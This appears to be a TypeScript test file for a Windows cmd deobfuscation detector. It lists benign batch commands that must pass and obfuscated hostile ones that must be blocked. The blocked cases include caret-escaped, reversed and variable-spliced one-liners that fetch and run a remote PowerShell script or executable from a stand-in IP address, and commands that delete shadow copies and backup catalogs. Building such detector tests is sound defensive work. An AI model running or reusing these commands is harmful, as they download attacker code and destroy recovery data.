import { deobfCases } from "./_deobf_testing.ts";

deobfCases("cmd", [
  {
    id: "decoded",
    block: [
      // Variables concatenated and called.
      `cmd /c "set p1=power&& set p2=shell&& call %p1%%p2% -nop -w hidden -c IEX(iwr http://198.51.100.7/s.ps1)"`,
      // Substitution removes junk from a variable.
      `cmd /c "set x=pQoQwQeQrQsQhQeQlQl&& call %x:Q=% -nop -c IEX(iwr http://198.51.100.7/s.ps1)"`,
      // FOR /L loop rebuilding a reversed variable with delayed expansion.
      `cmd /v:on /c "set f=llehsrewop&& for /L %i in (9,-1,0) do @set r=!r!!f:~%i,1!&& if %i==0 call !r! -c IEX(iwr http://198.51.100.7/s.ps1)"`,
      // Environment-variable substrings spelling a program.
      `cmd /c "set c=certutil&& call %c% -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"`,
      // Caret-escaped command line.
      `c^m^d /c p^o^w^e^r^s^h^e^l^l -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')"`,
      // Delayed expansion substrings.
      `cmd /v:on /c "set s=vssadmin delete shadows /all /quiet&& !s!"`,
    ],
    pass: [
      `set BACKUP=backup_%DATE:~10,4%%DATE:~4,2%%DATE:~7,2%.zip && 7z a %BACKUP% C:\\data`,
      `for /L %i in (1,1,5) do echo %i`,
      `set PATH=%PATH%;C:\\tools\\bin && where node`,
      `cmd /c "set NODE_ENV=production&& npm run build"`,
      `for %f in (*.txt) do type "%f"`,
      `set /a total=%a%+%b% && echo %total%`,
    ],
  },
  {
    // A FOR /L loop appending one character per turn keeps the spaces it appends; carets before
    // spaces and at the end of a line are escapes too.
    id: "decoded",
    block: [
      `cmd /v:on /c "set f=teiuq/ lla/ swodahs eteled nimdassv&& for /L %i in (34,-1,0) do set r=!r!!f:~%i,1!&& if %i==0 call %r%"`,
      `v^ss^ad^mi^n de^le^te^ s^ha^do^ws^ /al^l /q^ui^et^`,
      `wb^ad^mi^n de^le^te ca^ta^lo^g -q^ui^et`,
    ],
    pass: [
      `cmd /v:on /c "set f=enod dliub ohce&& for /L %i in (15,-1,0) do set r=!r!!f:~%i,1!&& if %i==0 call %r%"`,
      `e^ch^o^ b^ui^ld^ d^on^e^`,
      `di^r C:\\Us^er^s\\Pu^bl^ic`,
    ],
  },
]);
